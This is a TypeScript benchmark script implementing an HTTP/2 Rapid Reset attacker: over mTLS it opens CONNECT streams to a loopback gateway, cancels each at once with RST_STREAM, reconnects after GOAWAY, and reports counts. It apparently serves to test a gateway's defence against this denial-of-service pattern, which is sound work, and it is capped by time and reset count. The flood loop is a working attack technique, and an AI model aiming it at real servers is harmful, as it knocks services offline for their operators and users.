/**
 * The attacker of bench/h2-rapid-reset.ts, in a process of its own: one mTLS client that opens HTTP/2
 * CONNECT streams and resets each at once (RST_STREAM CANCEL), as fast as it can, on one connection at a
 * time; when the gateway ends the connection (GOAWAY), it reconnects. Bounded: `seconds` of wall time and
 * `maxResets` streams, or until SIGTERM. Loopback only. Prints one JSON line: resets sent, connections,
 * GOAWAYs received.
 *
 *   node --import tsx bench/h2-rapid-reset-attacker.ts PORT CA CERT KEY AUTHORITY SECONDS MAX_RESETS
 */
import { readFileSync } from 'node:fs';
import { type ClientHttp2Session, connect, constants } from 'node:http2';

const [port, caPath, certPath, keyPath, authority, seconds, maxResets] = process.argv.slice(2);
if (maxResets === undefined) throw new Error('usage: PORT CA CERT KEY AUTHORITY SECONDS MAX_RESETS');
let deadline = Date.now() + Number(seconds) * 1000;
// SIGTERM: the measurement is over; stop, and still print the counts.
process.on('SIGTERM', () => {
  deadline = 0;
});
const max = Number(maxResets);
const tls = { ca: readFileSync(caPath!), cert: readFileSync(certPath!), key: readFileSync(keyPath!) };
// Streams submitted per event-loop turn: enough to fill socket writes, few enough to notice GOAWAY.
const PER_TURN = 100;

let resets = 0;
let connections = 0;
let goaways = 0;

function open(): Promise<ClientHttp2Session | undefined> {
  return new Promise((resolve) => {
    const session = connect(`https://127.0.0.1:${port}`, { ...tls, servername: 'localhost' });
    session.once('connect', () => resolve(session));
    session.once('error', () => resolve(undefined));
  });
}

function flood(session: ClientHttp2Session): Promise<void> {
  return new Promise((done) => {
    session.on('error', () => {});
    session.on('goaway', () => {
      goaways++;
    });
    session.once('close', () => done());
    const turn = () => {
      if (session.closed || session.destroyed) return;
      if (Date.now() >= deadline || resets >= max) {
        session.destroy();
        return;
      }
      for (let i = 0; i < PER_TURN; i++) {
        try {
          const stream = session.request({ ':method': 'CONNECT', ':authority': authority! });
          stream.on('error', () => {});
          stream.close(constants.NGHTTP2_CANCEL);
          resets++;
        } catch {
          session.destroy();
          return;
        }
      }
      setImmediate(turn);
    };
    turn();
  });
}

while (Date.now() < deadline && resets < max) {
  const session = await open();
  connections++;
  if (session === undefined) {
    await new Promise((resolve) => setTimeout(resolve, 10));
    continue;
  }
  await flood(session);
}
process.stdout.write(`${JSON.stringify({ resets, connections, goaways })}\n`);
